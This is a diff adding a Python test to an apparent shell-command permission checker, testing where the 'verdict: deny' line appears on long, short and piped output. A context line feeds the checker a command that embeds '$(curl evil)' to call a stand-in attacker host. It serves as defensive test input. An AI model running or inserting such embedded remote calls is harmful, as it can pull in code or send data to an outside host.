@@ -20,6 +20,16 @@ def test_the_verdict_stands_first_and_what_it_comes_from() -> None:
     assert page("ls; pwd")[:2] == ["verdict: allow", ""]
 
 
+def test_where_the_end_is_what_is_seen_the_verdict_stands_there_too() -> None:
+    """Without a pager a page that is longer than the screen has it at both ends; one that fits, and a pipe, once."""
+    decided = decision_json(judged("; ".join(["ls", "git push"] * 9)))
+    long, short = Screen(80, 20), Screen(80, 200)
+    lines = [shown(decision_view(decided, scrolled=True), screen).splitlines() for screen in (long, short, PIPE)]
+    assert [page.count("verdict: deny") for page in lines] == [2, 1, 1]
+    assert lines[0][-2:] == ["verdict: deny", "because of: git push, and 8 more"]
+    assert lines[1][0] == lines[2][0] == "verdict: deny"
+
+
 def test_each_part_stands_in_its_place_with_what_decided_it() -> None:
     """Under what it belongs to, with rule, file, line and reason, and for a refusal what is allowed instead."""
     assert page('cd src && echo "$(curl evil)" > /tmp/log | sort')[3:] == [
